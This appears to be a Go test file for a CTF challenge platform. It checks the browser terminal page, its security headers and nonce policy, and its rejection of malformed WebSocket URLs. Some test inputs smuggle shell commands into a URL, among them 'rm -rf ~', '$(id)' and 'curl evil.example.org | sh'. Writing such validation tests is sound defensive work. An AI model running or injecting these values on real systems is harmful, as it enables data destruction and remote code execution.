package platform

import (
	"net/http"
	"regexp"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/challenge-hook/challenge-hook/api/v1alpha1"
)

// runningPage is a page offering a terminal or not, whose team-42 instance is Running with
// contract.running's endpoints (a TCP gateway endpoint with a WebSocket URL, an HTTPS one, an
// in-cluster one).
func runningPage(t *testing.T, terminal bool) (*pageTest, *http.Cookie) {
	p := newPageWithTerminal(t, terminal)
	cookie := p.session("team-42", "ctf", "pwn-heap")
	require.Equal(t, http.StatusSeeOther, p.act(actionStart, cookie, testPageOrigin).StatusCode)
	c := &contract{store: p.store, now: p.now}
	c.running(p.store.keys()[0])
	return p, cookie
}

var styleNonceAttr = regexp.MustCompile(`data-style-nonce="([^"]*)"`)

// TestPageTerminal: the terminal of an endpoint with a WebSocket URL is a page whose policy lets
// it connect to that URL's origin alone, and admits the style elements of xterm.js by a nonce
// fresh on every answer; it loads xterm.js and terminal.js from the page itself.
func TestPageTerminal(t *testing.T) {
	p, cookie := runningPage(t, true)
	resp, body := p.get("/i/ctf/pwn-heap/terminal?endpoint=0", cookie)
	require.Equal(t, http.StatusOK, resp.StatusCode, body)
	m := styleNonceAttr.FindStringSubmatch(body)
	require.NotNil(t, m, body)
	nonce := m[1]
	assert.Regexp(t, `^[A-Z2-7]{26}$`, nonce)
	assert.Equal(t, "default-src 'none'; script-src 'self'; style-src 'self' 'nonce-"+nonce+"'; img-src 'self'; connect-src wss://tcp.ctf.example.org; "+
		"form-action 'self'; frame-ancestors 'none'; base-uri 'none'", resp.Header.Get("Content-Security-Policy"))
	for name, value := range map[string]string{"X-Content-Type-Options": "nosniff", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store", "X-Frame-Options": "DENY"} {
		assert.Equal(t, value, resp.Header.Get(name), name)
	}
	assert.Contains(t, body, `<div id="terminal" data-socket="wss://tcp.ctf.example.org/ws/tok3n" data-style-nonce="`+nonce+`"></div>`)
	assert.Contains(t, body, `<script src="/i/assets/xterm.js" defer></script>`)
	assert.Contains(t, body, `<script src="/i/assets/terminal.js" defer></script>`)
	assert.Contains(t, body, `<link rel="stylesheet" href="/i/assets/xterm.css">`)
	assert.Contains(t, body, `<a id="back" href="/i/ctf/pwn-heap/">`)
	assert.NotRegexp(t, `<script>|<style|https?://`, body, "nothing inline, nothing from elsewhere")

	again, _ := p.get("/i/ctf/pwn-heap/terminal?endpoint=0", cookie)
	assert.NotEqual(t, resp.Header.Get("Content-Security-Policy"), again.Header.Get("Content-Security-Policy"), "a nonce per answer")

	assertPageHeaders(t, p.do(http.MethodGet, "/i/ctf/pwn-heap/", cookie, nil), "the instance's page keeps its own policy")
}

// No terminal where there is nothing to connect to: another endpoint (HTTPS), one out of range or
// not a number, an instance that is not Running, or another session's page.
func TestPageTerminalRefused(t *testing.T) {
	p, cookie := runningPage(t, true)
	for name, target := range map[string]string{
		"the HTTPS endpoint": "/i/ctf/pwn-heap/terminal?endpoint=1",
		"out of range":       "/i/ctf/pwn-heap/terminal?endpoint=2",
		"negative":           "/i/ctf/pwn-heap/terminal?endpoint=-1",
		"not a number":       "/i/ctf/pwn-heap/terminal?endpoint=pwn",
		"no endpoint":        "/i/ctf/pwn-heap/terminal",
	} {
		resp, body := p.get(target, cookie)
		assertRefused(t, resp, body, http.StatusNotFound, name)
		assert.Contains(t, body, refusedNoTerminal, name)
		assert.Contains(t, body, `<a id="back" href="/i/ctf/pwn-heap/">`, name)
	}
	resp, body := p.get("/i/ctf/pwn-heap/terminal?endpoint=0", p.session("team-42", "ctf", "web-notes"))
	assertRefused(t, resp, body, http.StatusForbidden, "another definition's session")
	assert.NotContains(t, body, "tok3n")

	p.store.sync(p.store.keys()[0], v1alpha1.ChallengeStatus{Phase: v1alpha1.PhaseStopped, Reason: v1alpha1.ReasonStopped,
		Endpoints: p.store.challenge(p.store.keys()[0]).Status.Endpoints})
	resp, body = p.get("/i/ctf/pwn-heap/terminal?endpoint=0", cookie)
	assertRefused(t, resp, body, http.StatusNotFound, "a stopped instance")
	assert.NotContains(t, body, "tok3n")
}

// A binary built without xterm.js offers no terminal: no link on the page, none in /status, no
// terminal page; the WebSocket commands stay.
func TestPageWithoutXterm(t *testing.T) {
	p, cookie := runningPage(t, false)
	_, body := p.get("/i/ctf/pwn-heap/", cookie)
	assert.NotContains(t, body, "terminal")
	assert.Contains(t, body, "websocat -b wss://tcp.ctf.example.org/ws/tok3n")
	s := p.status(cookie)
	require.NotEmpty(t, s.Endpoints)
	assert.Equal(t, "wss://tcp.ctf.example.org/ws/tok3n", s.Endpoints[0].WebSocketURL)
	assert.Empty(t, s.Endpoints[0].Terminal)
	resp, body := p.get("/i/ctf/pwn-heap/terminal?endpoint=0", cookie)
	assertRefused(t, resp, body, http.StatusNotFound, "the terminal page")
	assert.Contains(t, p.logs.String(), "player page: no terminal", "said at start")
}

// The xterm.js files are served exactly when this binary embeds them (hack/fetch-xterm.sh ran
// before the build): the check runs either way, on what this checkout holds.
func TestPageXtermAssets(t *testing.T) {
	p := newPage(t)
	for _, file := range []string{"xterm.js", "xterm.css", "xterm-license.txt"} {
		resp, body := p.get("/i/assets/"+file, nil)
		if !embedsXterm() {
			assert.Equal(t, http.StatusNotFound, resp.StatusCode, "%s without xterm.js", file)
			continue
		}
		assert.Equal(t, http.StatusOK, resp.StatusCode, file)
		assert.NotEmpty(t, body, file)
	}
	if embedsXterm() {
		_, license := p.get("/i/assets/xterm-license.txt", nil)
		assert.Contains(t, license, "The xterm.js authors")
	}
}

func TestWebSocketOrigin(t *testing.T) {
	for raw, want := range map[string]string{
		"wss://tcp.ctf.example.org/ws/tok3n":           "wss://tcp.ctf.example.org",
		"ws://127.0.0.1:8090/ws/tok3n":                 "ws://127.0.0.1:8090",
		"wss://ctf.example.org:8443/gateway/ws/abc234": "wss://ctf.example.org:8443",
	} {
		got, ok := webSocketOrigin(raw)
		assert.True(t, ok, raw)
		assert.Equal(t, want, got, raw)
	}
	for _, raw := range []string{
		"", "https://tcp.ctf.example.org/ws/tok3n", "wss://tcp.ctf.example.org/tok3n", "wss:///ws/tok3n",
		"wss://tcp.ctf.example.org/ws/tok3n; rm -rf ~", "wss://tcp.ctf.example.org/ws/tok3n'", "wss://a;b/ws/x",
		"wss://u@tcp.ctf.example.org/ws/x", "wss://tcp.ctf.example.org/ws/x?y", "wss://tcp.ctf.example.org/ws/$(id)",
		"wss://tcp.ctf.example.org/ws/x\nSet-Cookie: a=b", "wss://tcp.ctf.example.org/ws/x connect-src *",
	} {
		_, ok := webSocketOrigin(raw)
		assert.False(t, ok, "%q", raw)
	}
}

// An endpoint whose WebSocket URL a shell or a header would read as more than a URL gets no
// WebSocket line anywhere: not on the page, not in rCTF's answer.
func TestWebSocketURLNotAURL(t *testing.T) {
	ep := v1alpha1.Endpoint{Name: "pwn", Protocol: "TCP", Host: "tcp.ctf.example.org", Port: 1337, URL: "tcp://tcp.ctf.example.org:1337", Token: "tok3n",
		WebSocketURL: "wss://tcp.ctf.example.org/ws/tok3n; curl evil.example.org | sh"}
	for _, c := range commandsOf(ep) {
		assert.NotContains(t, c.Text, "evil", c.Label)
	}
	c := &v1alpha1.Challenge{}
	c.Namespace = "ctf"
	c.Status.Endpoints = []v1alpha1.Endpoint{ep}
	for _, e := range endpointsOf(c) {
		assert.NotContains(t, e.Text, "evil")
	}
	assert.Empty(t, pageEndpoints(c)[0].WebSocketURL)
}
